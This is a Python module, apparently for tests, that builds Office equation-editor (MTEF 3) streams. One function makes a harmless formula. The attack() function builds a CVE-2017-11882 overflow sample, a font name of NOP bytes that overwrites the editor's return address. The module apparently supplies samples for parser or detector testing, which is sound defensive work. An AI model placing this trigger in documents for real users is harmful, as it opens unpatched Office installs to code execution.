"""Formulas as the equation editor of the old Office keeps them (MTEF 3), harmless ones and such as attack it."""

from __future__ import annotations

import struct

CLASS = "02ce020000000000c000000000000046"
END, FULL = b"\0", b"\x0a"
LINE, EMPTY_LINE, SPACED_LINE = b"\x01", b"\x11", b"\x41\x20"
PILE, FRACTION = b"\x04\x01\x01", b"\x03\x0e\0\0"
SMALLER, POINTS = b"\x09\0\x70", b"\x09\x65\x40\x01"
RULER = b"\x07\x02\0\x20\0\x01\x40\0"


def formula(*records: bytes, version: int = 3) -> bytes:
    """The stream "Equation Native": its header, and a formula of these records."""
    mtef = bytes([version, 1, 1, 3, 10]) + b"".join(records)
    return struct.pack("<HIHIIIII", 28, 0x20000, 0xC1F5, len(mtef), 0, 0, 0, 0) + mtef


def letter(character: str, options: int = 0, moved: bytes = b"") -> bytes:
    """A character in the typeface of variables."""
    return bytes([options << 4 | 2]) + moved + b"\x83" + struct.pack("<H", ord(character))


def font(name: bytes) -> bytes:
    return b"\x08\x01\0" + name + b"\0"


def matrix(rows: int, columns: int) -> bytes:
    parts = [-(-2 * (lines + 1) // 8) for lines in (rows, columns)]
    return bytes([5, 1, 2, 0, rows, columns]) + bytes(sum(parts))


def harmless() -> bytes:
    """A formula with something of everything, and the longest font's name that Windows has room for."""
    hat = letter("x", 2) + b"\x06\x09" + END
    moved = letter("y", 8, b"\x7f\x81") + letter("z", 8, b"\x80\x80\x2c\x01\x90\x01")
    fraction = FRACTION + LINE + letter("a") + END + EMPTY_LINE + END
    cells = b"".join(LINE + letter(cell) + END for cell in "pqrs")
    lines = SPACED_LINE + hat + moved + fraction + SMALLER + font(b"F" * 31) + letter("\u2212") + matrix(2, 2) + cells + END
    return formula(FULL, b"\x24\x01\x01", RULER, lines, END, PILE, LINE, POINTS, letter("n"), END, END, END)


def attack() -> bytes:
    """CVE-2017-11882: a font's name of code that goes on over the place where the editor returns to."""
    return formula(FULL, FULL, LINE, font(b"\x90" * 44 + b"\x12\x0c\x43"), END, END)
